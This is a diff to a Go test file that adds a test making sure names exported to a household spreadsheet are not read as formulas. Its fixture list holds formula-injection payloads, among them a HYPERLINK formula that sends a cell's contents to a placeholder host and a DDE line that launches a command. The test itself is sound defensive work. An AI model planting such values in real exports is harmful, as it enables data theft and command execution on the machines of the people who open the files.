@@ -2,6 +2,9 @@ package reach
 
 import (
 	"errors"
+	"fmt"
+	"slices"
+	"strings"
 	"testing"
 
 	"shirase/internal/actor"
@@ -70,6 +73,32 @@ func TestFilesGo(t *testing.T) {
 		}
 		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 0 {
 			t.Errorf("shredded: %v, %q", err, h.sealedFiles())
+		}
+	})
+}
+
+// TestNoFormula: what somebody has called themselves is no formula in a house's spreadsheet, and numbers stay as they are.
+func TestNoFormula(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		h := newHousehold(t, db, 40, nil)
+		evil := []string{`=HYPERLINK("http://x.example/?"&C2)`, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "＝1+1", "+81 90 1234 5678", "-5", "山田 =太郎"}
+		for i, name := range evil {
+			h.list = strings.Replace(h.list, fmt.Sprintf("例示 %d\n", 4*i+2), `"`+strings.ReplaceAll(name, `"`, `""`)+"\"\n", 1)
+		}
+		a := h.asked(h.letters(Post, h.mailed(3).ID, nil))
+		a.Columns, a.Texts = []string{"氏名"}, false
+		_, rows, _ := h.opened(h.made(a).ID)
+		found := 0
+		for _, row := range rows {
+			if slices.Contains(evil, row[1]) && strings.IndexAny(row[1], "=+-@＝") == 0 && row[1] != "+81 90 1234 5678" && row[1] != "-5" {
+				t.Errorf("%q is a formula", row[1])
+			}
+			if strings.HasPrefix(row[1], "'") || slices.Contains(evil, row[1]) {
+				found++
+			}
+		}
+		if found != len(evil) {
+			t.Errorf("%d of %d are in the file", found, len(evil))
 		}
 	})
 }
